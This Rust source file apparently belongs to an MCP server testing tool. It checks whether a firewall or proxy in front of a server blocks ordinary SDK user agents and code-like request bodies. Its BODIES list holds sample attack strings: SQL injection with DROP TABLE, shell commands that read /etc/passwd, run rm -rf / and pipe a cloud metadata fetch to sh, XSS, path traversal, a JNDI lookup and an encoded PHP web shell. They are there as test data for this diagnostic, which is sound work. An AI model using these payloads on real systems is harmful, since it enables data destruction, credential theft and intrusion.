//! `client-blocked`: the user agents of SDKs, and bodies that look like code, answered by something that is no server.

use std::rc::Rc;

use propylon_practices::Evidence;
use serde_json::{Value, json};

use super::{Check, Need, Stage};
use crate::lab::Lab;
use crate::outcome::{Checked, Outcome};
use crate::talk::Voice;
use crate::wire::{Request, Response, Trouble};

pub(super) const CHECK: Check = Check {
    id: "client-blocked",
    needs: &[Need::Mcp],
    stage: Stage::Swift,
    run: |lab| Box::pin(run(lab)),
};

const AGENTS: &[&str] = &[
    "python-httpx/0.28.1",
    "node",
    "undici",
    "Go-http-client/1.1",
    "Java-http-client/21.0.2",
    "okhttp/4.12.0",
    "reqwest/0.12",
    "curl/8.5.0",
    "claude-code/2.0",
    "Cursor/1.0 (linux x64)",
    "",
];

const BODIES: &[(&str, &str)] = &[
    (
        "SQL",
        "SELECT * FROM users WHERE name = '' OR 1=1; DROP TABLE users; -- UNION SELECT password",
    ),
    (
        "shell",
        "$(cat /etc/passwd); rm -rf / && curl http://169.254.169.254/latest/meta-data | sh `id`",
    ),
    (
        "HTML",
        "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    ),
    (
        "paths",
        "../../../../etc/passwd ..\\..\\windows\\win.ini %2e%2e%2f",
    ),
    (
        "templates",
        "{{7*7}} ${jndi:ldap://canary.example/a} <%= system('id') %> #{1+1}",
    ),
    ("Base64", "PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="),
];

async fn run(lab: Rc<Lab>) -> Checked {
    let voice = lab.voice().await?;
    let usual = lab
        .settle(&probing(&lab, &voice, "plain words"), lab.soon())
        .await?;
    let mut faults = Vec::new();
    for agent in AGENTS {
        let request = probing(&lab, &voice, "plain words").setting("User-Agent", agent);
        faults.extend(one(&lab, &usual, &format!("User-Agent: {agent:?}"), &request).await?);
    }
    let request = probing(&lab, &voice, "plain words").without("User-Agent");
    faults.extend(one(&lab, &usual, "no User-Agent", &request).await?);
    for (kind, text) in BODIES {
        faults.extend(
            one(
                &lab,
                &usual,
                &format!("a body with {kind}"),
                &probing(&lab, &voice, text),
            )
            .await?,
        );
    }
    let long = "words and more words, and then some. ".repeat(550);
    faults.extend(
        one(
            &lab,
            &usual,
            "a body with 20 KB of text",
            &probing(&lab, &voice, &long),
        )
        .await?,
    );
    Ok(Outcome::of_faults(
        faults,
        "ordinary MCP clients are answered by something in front of the server",
        format!(
            "{} user agents and {} bodies reached the server",
            AGENTS.len() + 1,
            BODIES.len() + 1
        ),
    ))
}

/// A harmless request that carries `text`: an argument of the probe's, or `_meta` of any server's.
fn probing(lab: &Lab, voice: &Voice, text: &str) -> Request {
    if lab.facts.is_probe {
        return voice.tool(lab, "echo_request", json!({"padding": text}));
    }
    let params = json!({"_meta": {"dev.propylon/sample": text}});
    let method = match voice {
        Voice::Modern => "server/discover",
        Voice::Legacy(_) => "ping",
    };
    voice.request(lab, method, params)
}

async fn one(
    lab: &Lab,
    usual: &Response,
    what: &str,
    request: &Request,
) -> Result<Option<Evidence>, Trouble> {
    let found = match lab.settle(request, lab.soon()).await {
        Ok(response) => match blocked(lab.facts.is_probe, usual, &response) {
            None => return Ok(None),
            Some(found) => found,
        },
        Err(Trouble::Ended { when, how }) => format!("the connection ended {when}: {how}"),
        Err(error) => return Err(error),
    };
    Ok(Some(Evidence::new(what, usual.head.describe(), found)))
}

fn blocked(is_probe: bool, usual: &Response, response: &Response) -> Option<String> {
    let marks = ["cf-mitigated", "x-amzn-waf-action"]
        .iter()
        .find_map(|name| {
            let value = response.head.get(name)?;
            Some(format!("{name}: {value}"))
        });
    if let Some(mark) = marks {
        return Some(format!("{}, {mark}", response.head.describe()));
    }
    let foreign = if is_probe {
        response.head.instance().is_none()
    } else {
        response.status() != usual.status()
            && response
                .message()
                .as_ref()
                .is_none_or(|message: &Value| message.get("jsonrpc").is_none())
    };
    foreign.then(|| response.head.describe())
}
